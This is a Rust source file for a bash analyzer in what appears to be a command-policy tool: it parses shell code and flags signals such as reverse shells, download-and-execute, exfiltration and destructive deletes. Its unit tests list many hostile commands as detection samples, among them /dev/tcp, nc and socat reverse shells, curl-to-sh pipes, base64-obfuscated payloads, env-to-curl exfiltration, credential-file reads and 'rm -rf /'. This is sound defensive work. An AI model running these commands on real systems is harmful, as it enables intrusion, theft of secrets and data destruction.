//! The bash analyzer: parses shell source with tree-sitter-bash and reports
//! facts (commands after quote removal and constant folding, redirections,
//! URL/path strings, and signals such as `reverse-shell` or `decode-exec`).
//!
//! It owns shell semantics only: which word is the command, what a wrapper
//! runs, what a pipeline feeds into. It never decides what is dangerous (the
//! policy's rules do) and never executes anything. Payloads it can see
//! (`bash -c '...'`, `echo <b64> | base64 -d | sh`, `python -c '...'`) are
//! analysed recursively under `Budget::nested`.
//!
//! Valid bash that tree-sitter-bash cannot read is not denied for that:
//! `recover.rs` reads it with brush-parser, prints it in forms tree-sitter
//! reads and the same walk analyses it (spans mapped back to the source).
//!
//! Failure is closed: a syntax error that brush-parser confirms gives
//! `Unparseable` at the position it names (as does a word or substitution
//! neither parser reads), nesting beyond the budget gives
//! `TooDeep` (checked by a byte pre-scan before parsing and by an iterative
//! walk of the tree before the semantic walk), and the deadline is checked
//! while parsing and walking.

mod commands;
mod credentials;
mod decode;
mod exfil;
mod impact;
mod paths;
mod recover;
mod render;
mod servers;
mod transfer;
mod walk;
mod words;

use std::cell::RefCell;
use std::ops::ControlFlow;

use tree_sitter::{Node, ParseOptions, ParseState, Parser, Tree};

#[cfg(test)]
use super::FactKind;
use super::{AnalyzeError, Budget, Fact};
use walk::{Analyzer, Ctx};

/// Extracts facts from bash source.
pub fn extract(code: &str, budget: &Budget) -> Result<Vec<Fact>, AnalyzeError> {
    let mut facts = extract_at(code, budget, 0)?;
    super::fact::tag_language(&mut facts, crate::Language::Bash);
    Ok(facts)
}

/// Like [`extract`], for a payload found `depth` walker levels deep in an
/// outer script: the walker's depth limit is shared, so nested payloads
/// cannot stack up more recursion than one script may use.
pub(crate) fn extract_at(
    code: &str,
    budget: &Budget,
    depth: usize,
) -> Result<Vec<Fact>, AnalyzeError> {
    extract_with(code, budget, depth, None)
}

/// Like [`extract_at`], for a payload that runs with the caller's variables
/// (`eval`, `trap`, `bash -c`): those are inherited, and variables the
/// payload never assigns are unknown rather than empty.
fn extract_with(
    code: &str,
    budget: &Budget,
    depth: usize,
    inherited: Option<std::collections::HashMap<String, walk::Var>>,
) -> Result<Vec<Fact>, AnalyzeError> {
    if code.len() > budget.max_bytes {
        return Err(AnalyzeError::TooLarge {
            size: code.len(),
            limit: budget.max_bytes,
        });
    }
    if budget.expired() {
        return Err(AnalyzeError::Timeout);
    }
    let limit = budget.max_depth;
    prescan_nesting(code, limit)?;
    let tree = parse(code, budget)?;
    // Valid bash that tree-sitter-bash rejects is read by the second parser
    // and printed in forms tree-sitter reads; what neither reads is denied.
    let recovered = match check_tree(tree.root_node(), code, limit, budget) {
        Ok(()) => None,
        Err(AnalyzeError::Unparseable { .. }) => Some(recover::recover(code, budget)?),
        Err(e) => return Err(e),
    };
    let (text, root) = match &recovered {
        Some(r) => {
            check_tree(r.tree.root_node(), &r.text, limit, budget)?;
            (r.text.as_str(), r.tree.root_node())
        }
        None => (code, tree.root_node()),
    };
    // The semantic walk recurses on statements, commands and words: at most a
    // few frames per tree level, all bounded by this counter.
    let walk_limit = limit.saturating_mul(3).saturating_add(16);
    let mut analyzer = Analyzer::new(text, budget, depth, walk_limit);
    if let Some(vars) = inherited {
        analyzer.vars = vars;
        analyzer.unset_is_empty = false;
    }
    if let Some(r) = &recovered {
        analyzer.opaque.clone_from(&r.opaque);
    }
    analyzer.stmt(root, &Ctx::default())?;
    for (id, span) in impact::redirect_signals(&analyzer.facts) {
        analyzer.signal(id, span);
    }
    if analyzer.secret_seen {
        if let Some(span) = analyzer.net_sink {
            analyzer.signal("exfiltration", span);
        }
    }
    let mut facts = dedup(analyzer.facts);
    if let Some(r) = &recovered {
        for f in &mut facts {
            f.span = r.span_to_source(f.span);
        }
    }
    Ok(facts)
}

fn dedup(facts: Vec<Fact>) -> Vec<Fact> {
    let mut out: Vec<Fact> = Vec::with_capacity(facts.len());
    for f in facts {
        if !out.iter().rev().take(64).any(|g| *g == f) {
            out.push(f);
        }
    }
    out
}

/// Rejects absurd bracket nesting before tree-sitter sees it: parentheses and
/// braces nest at least one tree level each, so a run deeper than the limit
/// can never be walked anyway.
fn prescan_nesting(code: &str, limit: usize) -> Result<(), AnalyzeError> {
    let mut depth = 0usize;
    for b in code.bytes() {
        match b {
            b'(' | b'{' => {
                depth += 1;
                if depth > limit {
                    return Err(AnalyzeError::TooDeep { limit });
                }
            }
            b')' | b'}' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    Ok(())
}

thread_local! {
    static PARSER: RefCell<Option<Parser>> = const { RefCell::new(None) };
}

fn parse(code: &str, budget: &Budget) -> Result<Tree, AnalyzeError> {
    let grammar_error = |e: String| AnalyzeError::Unparseable {
        line: 1,
        column: 1,
        message: e,
    };
    let deadline = budget.deadline;
    let mut progress = |_: &ParseState| {
        if std::time::Instant::now() >= deadline {
            ControlFlow::Break(())
        } else {
            ControlFlow::Continue(())
        }
    };
    // tree-sitter-bash 0.25's scanner calls `isdigit()` on the code point
    // after `{`, which reads outside the C library's table (and crashes the
    // process) for large code points. The parser therefore sees every
    // non-ASCII byte as `a` (a word character, as bash treats them too) and
    // NUL as a space; byte offsets are unchanged, and all text is read back
    // from the original source.
    let sanitized: Vec<u8>;
    let bytes: &[u8] = if code.bytes().all(|b| b.is_ascii() && b != 0) {
        code.as_bytes()
    } else {
        sanitized = code
            .bytes()
            .map(|b| match b {
                0 => b' ',
                b if b.is_ascii() => b,
                _ => b'a',
            })
            .collect();
        &sanitized
    };
    let mut input = |i: usize, _| -> &[u8] { bytes.get(i..).unwrap_or(&[]) };
    // A parser is reused per thread; a payload parsed while the outer tree is
    // being walked borrows it only for the parse itself.
    let cached = PARSER.with(|cell| cell.try_borrow_mut().ok().and_then(|mut p| p.take()));
    let mut parser = match cached {
        Some(p) => p,
        None => {
            let mut p = Parser::new();
            p.set_language(&tree_sitter_bash::LANGUAGE.into())
                .map_err(|e| grammar_error(format!("bash grammar unavailable: {e}")))?;
            p
        }
    };
    let tree = parser.parse_with_options(
        &mut input,
        None,
        Some(ParseOptions::new().progress_callback(&mut progress)),
    );
    parser.reset();
    PARSER.with(|cell| {
        if let Ok(mut slot) = cell.try_borrow_mut() {
            *slot = Some(parser);
        }
    });
    match tree {
        Some(t) => Ok(t),
        None if budget.expired() => Err(AnalyzeError::Timeout),
        None => Err(grammar_error("parser gave up".into())),
    }
}

/// One iterative pass over the tree: the first syntax error (fail closed)
/// and the nesting depth. Left-nested `a && b && c` lists do not count as
/// depth because the walker flattens them.
fn check_tree(
    root: Node<'_>,
    code: &str,
    limit: usize,
    budget: &Budget,
) -> Result<(), AnalyzeError> {
    let mut cursor = root.walk();
    let mut depths: Vec<usize> = vec![0];
    let mut max = 0usize;
    let mut first_error: Option<Node<'_>> = None;
    let mut steps = 0usize;
    loop {
        let node = cursor.node();
        steps += 1;
        if steps.is_multiple_of(8192) && budget.expired() {
            return Err(AnalyzeError::Timeout);
        }
        let d = depths.last().copied().unwrap_or(0);
        max = max.max(d);
        if max > limit {
            return Err(AnalyzeError::TooDeep { limit });
        }
        if first_error.is_none() && (node.is_error() || node.is_missing()) && !tolerated(node) {
            first_error = Some(node);
        }
        let descend = node.child_count() > 0;
        if descend && cursor.goto_first_child() {
            let child = cursor.node();
            let flat = child.kind() == "list" && node.kind() == "list";
            depths.push(if flat { d } else { d + 1 });
            continue;
        }
        loop {
            if cursor.goto_next_sibling() {
                let parent_d = depths
                    .len()
                    .checked_sub(2)
                    .and_then(|i| depths.get(i))
                    .copied()
                    .unwrap_or(0);
                let sib = cursor.node();
                let flat = sib.kind() == "list" && sib.parent().is_some_and(|p| p.kind() == "list");
                if let Some(top) = depths.last_mut() {
                    *top = if flat { parent_d } else { parent_d + 1 };
                }
                break;
            }
            if !cursor.goto_parent() {
                return match first_error {
                    Some(n) => Err(unparseable(n, code)),
                    None => Ok(()),
                };
            }
            depths.pop();
        }
    }
}

/// Grammar gaps in tree-sitter-bash 0.25 for valid bash: the read-write
/// redirection `3<>/dev/tcp/...` parses as `<` followed by an ERROR holding `>`.
/// Depending on context the ERROR holds the `>` or the `<`.
fn tolerated(node: Node<'_>) -> bool {
    let only =
        |kind: &str| node.child_count() == 1 && node.child(0).is_some_and(|c| c.kind() == kind);
    node.is_error()
        && node.parent().is_some_and(|p| p.kind() == "file_redirect")
        && ((only(">") && node.prev_sibling().is_some_and(|s| s.kind() == "<"))
            || (only("<") && node.next_sibling().is_some_and(|s| s.kind() == ">")))
}

fn unparseable(node: Node<'_>, code: &str) -> AnalyzeError {
    let p = node.start_position();
    let what = if node.is_missing() {
        format!("missing {}", node.kind())
    } else {
        let text: String = code
            .get(node.byte_range())
            .unwrap_or("")
            .chars()
            .take(40)
            .collect();
        format!("syntax error near {text:?}")
    };
    AnalyzeError::Unparseable {
        line: u32::try_from(p.row).unwrap_or(u32::MAX).saturating_add(1),
        column: u32::try_from(p.column)
            .unwrap_or(u32::MAX)
            .saturating_add(1),
        message: what,
    }
}

/// Test helper shared by the unit tests: facts as `kind:name` strings.
#[cfg(test)]
fn summary(facts: &[Fact]) -> Vec<String> {
    facts
        .iter()
        .map(|f| format!("{}:{}", f.kind.as_str(), f.name))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn facts(code: &str) -> Vec<Fact> {
        extract(code, &Budget::start()).unwrap_or_else(|e| panic!("{code}: {e}"))
    }

    fn has(code: &str, kind: FactKind, name: &str) -> bool {
        facts(code).iter().any(|f| f.kind == kind && f.name == name)
    }

    fn cmd(code: &str, name: &str) -> bool {
        has(code, FactKind::Command, name)
    }

    fn sig(code: &str, name: &str) -> bool {
        has(code, FactKind::Signal, name)
    }

    fn no_signals(code: &str) {
        let f = facts(code);
        let s: Vec<&Fact> = f.iter().filter(|f| f.kind == FactKind::Signal).collect();
        assert!(s.is_empty(), "{code}: unexpected signals {:?}", summary(&f));
    }

    #[test]
    fn command_names_are_normalised() {
        for code in [
            "c''url http://x",
            "\"c\"url http://x",
            "\\c\\u\\r\\l http://x",
            "$'\\x63url' http://x",
            "$'\\143url' http://x",
            "c${x}url http://x",
            "/usr/bin/curl http://x",
            "a=cu; b=rl; $a$b http://x",
            "sudo curl http://x",
            "env A=1 curl http://x",
            "timeout 5 curl http://x",
            "nohup curl http://x &",
            "busybox wget http://x",
            "$(echo curl) http://x",
            "x=$(printf '\\x63\\x75\\x72\\x6c'); $x http://x",
        ] {
            let f = facts(code);
            let want = if code.contains("wget") {
                "wget"
            } else {
                "curl"
            };
            assert!(
                f.iter()
                    .any(|f| f.kind == FactKind::Command && f.name == want),
                "{code}: {:?}",
                summary(&f)
            );
        }
        assert!(sig("a=cu; b=rl; $a$b http://x", "variable-command"));
        assert!(sig("c''url http://x", "string-obfuscation"));
        assert!(sig("$cmd http://x", "computed-name") || !cmd("$cmd http://x", "curl"));
        assert!(cmd("sudo curl http://x", "sudo"));
        let f = facts("cat${IFS}/etc/passwd");
        assert!(f
            .iter()
            .any(|f| f.kind == FactKind::Command && f.name == "cat" && f.args == ["/etc/passwd"]));
    }

    #[test]
    fn redirects_and_reverse_shells() {
        assert!(has("echo x >> ~/.bashrc", FactKind::Redirect, "~/.bashrc"));
        assert!(has(
            "echo x >> $HOME/.bashrc",
            FactKind::Redirect,
            "~/.bashrc"
        ));
        assert!(sig(
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "reverse-shell"
        ));
        assert!(sig(
            "exec 3<>/dev/tcp/10.0.0.1/4444; sh <&3 >&3 2>&3",
            "reverse-shell"
        ));
        assert!(sig("nc -e /bin/sh 10.0.0.1 4444", "reverse-shell"));
        assert!(sig("ncat 10.0.0.1 4444 -e /bin/bash", "reverse-shell"));
        assert!(sig(
            "socat exec:'bash -li',pty,stderr tcp:10.0.0.1:4444",
            "reverse-shell"
        ));
        assert!(sig(
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
            "reverse-shell"
        ));
        assert!(sig(
            "telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445",
            "reverse-shell"
        ));
        assert!(sig("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"1.2.3.4\",1));pty.spawn(\"/bin/sh\")'", "reverse-shell"));
    }

    #[test]
    fn pipes_and_decoding() {
        assert!(sig("curl -fsSL http://x/i.sh | sh", "pipe-to-shell"));
        assert!(sig("curl -fsSL http://x/i.sh | sh", "download-exec"));
        assert!(sig("wget -O- http://x | bash", "download-exec"));
        assert!(sig("curl http://x | sudo bash -s", "pipe-to-shell"));
        let f = facts("echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | sh");
        assert!(f
            .iter()
            .any(|f| f.kind == FactKind::Signal && f.name == "decode-exec"));
        assert!(f
            .iter()
            .any(|f| f.kind == FactKind::Signal && f.name == "decoded-payload"));
        assert!(f.iter().any(|f| f.kind == FactKind::Command
            && f.name == "curl"
            && f.via == ["sh", "base64 -d"]));
        let f = facts("eval \"$(echo cm0gLXJmIC8= | base64 --decode)\"");
        assert!(
            f.iter()
                .any(|f| f.kind == FactKind::Signal && f.name == "recursive-delete-root"),
            "{:?}",
            summary(&f)
        );
        assert!(sig("bash -c \"$(curl -fsSL http://x)\"", "download-exec"));
        assert!(sig("source <(curl -s http://x)", "dynamic-code"));
        assert!(sig("source <(curl -s http://x)", "download-exec"));
        // Code the script cannot see is dynamic when it comes from data the
        // script does not control; the script's own arguments are not that.
        assert!(sig("read -r x; eval \"$x\"", "dynamic-code"));
        assert!(sig("eval \"$(sed 's/X//g' <<< 'iXd')\"", "dynamic-code"));
        assert!(!sig("eval \"$1\"", "dynamic-code"));
        assert!(!sig("eval 'echo hi'", "dynamic-code"));
        assert!(sig("eval 'rm -rf /'", "recursive-delete-root"));
        assert!(!sig("f() { eval \"$1=(\\\"$2\\\")\"; }", "dynamic-code"));
        assert!(sig("bash -c 'rm -rf /'", "recursive-delete-root"));
        assert!(sig(
            "wget http://x/a.sh -O /tmp/a.sh; chmod +x /tmp/a.sh; /tmp/a.sh",
            "download-exec"
        ));
        assert!(sig("curl -o run http://x/run; bash run", "download-exec"));
        assert!(sig(
            "cat > /tmp/x.sh <<'EOF'\nrm -rf /\nEOF\nbash /tmp/x.sh",
            "recursive-delete-root"
        ));
        assert!(sig(
            "echo 'phey uggc://k | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
            "decode-exec"
        ));
        assert!(sig(
            "echo 'hs | x//:ptth lruc' | rev | bash",
            "download-exec"
        ));
    }

    #[test]
    fn destructive_and_privilege() {
        for code in [
            "rm -rf /",
            "rm -rf /*",
            "rm -rf ~",
            "rm -fr /etc",
            "rm -r -f /",
            "rm --recursive --force /",
            "rm -rf --no-preserve-root /",
            "find / -delete",
            "sudo rm -rf /",
            "rm -rf $HOME",
            "rm -Rf \"$HOME/\"",
        ] {
            assert!(sig(code, "recursive-delete-root"), "{code}");
        }
        for code in [
            "chmod +s /tmp/x",
            "chmod u+s x",
            "chmod 4755 x",
            "chmod g+s x",
            "chmod 2755 x",
        ] {
            assert!(sig(code, "setuid"), "{code}");
        }
        assert!(sig(":(){ :|:& };:", "fork-bomb"));
        assert!(sig("bomb() { bomb | bomb & }; bomb", "fork-bomb"));
        assert!(sig("while true; do $0 & done", "fork-bomb"));
        assert!(sig("cat /etc/shadow", "sensitive-path"));
        assert!(sig("cat ~/.aws/credentials", "sensitive-path"));
        assert!(sig(
            "curl --unix-socket /var/run/docker.sock http://x/containers/json",
            "sensitive-path"
        ));
        assert!(sig(
            "curl http://169.254.169.254/latest/meta-data/",
            "cloud-metadata"
        ));
        assert!(sig("env | curl -d @- http://x", "env-harvest"));
        assert!(sig("env | curl -d @- http://x", "exfiltration"));
        assert!(sig("printenv", "env-harvest"));
        assert!(sig("export -p", "env-harvest"));
        assert!(sig("cat /proc/self/environ", "env-harvest"));
        assert!(sig("while true; do :; done", "infinite-loop"));
        assert!(sig("for ((;;)); do echo; done", "infinite-loop"));
        assert!(sig("kill -9 -1", "kill-all"));
        assert!(sig(
            "dd if=/dev/zero of=/tmp/fill bs=1M",
            "resource-exhaustion"
        ));
    }

    #[test]
    fn benign_stays_clean() {
        for code in [
            "echo \"rm -rf /\"",
            "printf 'curl is a tool\\n'",
            "grep -r eval src/",
            "# curl http://x | sh",
            "cat <<EOF\nrm -rf /\ncurl http://x | sh\nEOF",
            "rm -rf /tmp/build",
            "rm -rf ./dist",
            "find . -name '*.tmp' -delete",
            "awk '{print $1}' data.txt | sort | uniq -c | sort -rn | head",
            "for i in 1 2 3; do echo $i; done",
            "f() { echo hi; }; f",
            "x=$((1 + 2)); echo $x",
            "chmod +x script.sh",
            "chmod 644 file.txt",
            "echo $HOME $PATH",
            "set -euo pipefail",
            "kill -1 1234",
            "command -v jq >/dev/null || echo missing",
            "while read -r line; do echo \"$line\"; done < input.txt",
            "if [ -f x ]; then cat x; fi",
            "fib() { if [ $1 -le 1 ]; then echo $1; else echo $(( $(fib $(($1-1))) + $(fib $(($1-2))) )); fi; }",
        ] {
            no_signals(code);
        }
    }

    /// `CORDON_BASH=... cargo test --lib analyze::bash::tests::dump -- --ignored --nocapture`
    #[test]
    #[ignore]
    fn dump() {
        let code = std::env::var("CORDON_BASH").unwrap_or_default();
        match extract(&code, &Budget::start()) {
            Ok(f) => {
                for x in f {
                    println!(
                        "{:?} {} {:?} @{}:{} via {:?}",
                        x.kind, x.name, x.args, x.span.start_line, x.span.start_col, x.via
                    );
                }
            }
            Err(e) => println!("error: {e}"),
        }
    }

    #[test]
    fn fail_closed() {
        let b = Budget::start();
        assert!(matches!(
            extract("if then fi (", &b),
            Err(AnalyzeError::Unparseable { .. })
        ));
        let deep = "echo ".to_string() + &"$(".repeat(100_000);
        assert!(matches!(
            extract(&deep, &b),
            Err(AnalyzeError::TooDeep { .. })
        ));
        let deep_if = "if true; then ".repeat(5000) + "echo" + &"; fi".repeat(5000);
        assert!(matches!(
            extract(&deep_if, &b),
            Err(AnalyzeError::TooDeep { .. })
        ));
        // Crashed tree-sitter-bash's scanner before input sanitising.
        for c in ['\u{10ffff}', '\u{fea8f}', '\u{41e20}'] {
            let _ = extract(&format!("{{{c}"), &b);
            let _ = extract(&format!("echo {{1..{c}"), &b);
        }
        assert!(cmd("echo héllo wörld", "echo"));
        let long_list = vec!["true"; 5000].join(" && ");
        assert!(extract(&long_list, &b).is_ok());
    }

    /// Issue 12 item 10: everyday idioms raise no obfuscation, dynamic-code
    /// or resource signal; the same shapes fed by untrusted data still do.
    #[test]
    fn expansions_as_names_by_origin() {
        for ok in [
            "\"$@\"",
            "nohup \"$@\" &",
            "\"$EDITOR\" \"$file\"",
            "\"${FUNCNAME[1]}\" x",
            "PY=python3; $PY -V",
            "exec \"$cmd_path\" \"$@\"",
            "\"$ROOT/libexec/tool\" --version",
            "$(type -P gawk awk | head -n1) '{print}' f",
            "run_a() { :; }; impl=a; run_\"$impl\" x",
            "\\ls -la",
        ] {
            no_signals(ok);
        }
        assert!(sig("read -r c; $c -la", "computed-name"));
        assert!(sig("c=$(curl -s http://x/n); $c", "variable-command"));
        assert!(sig(
            "$(echo Y3VybA== | base64 -d) http://x",
            "variable-command"
        ));
        assert!(sig("$(sed 's/X//g' <<< 'cuXrl') http://x", "computed-name"));
        assert!(sig("p1=ba; p2=sh; \"$p1$p2\" -c id", "variable-command"));
        assert!(sig("a=c; b=$a; c=url; $b$c http://x", "variable-command"));
        assert!(cmd(
            "p=$(which python3 || which python); $p -c 'print(1)'",
            "python"
        ));
        assert!(sig("~/.../sh -c id", "string-obfuscation"));
        assert!(!sig("while :; do echo hi; done", "resource-exhaustion"));
        assert!(sig("a=x; while :; do a=$a$a; done", "resource-exhaustion"));
    }
}
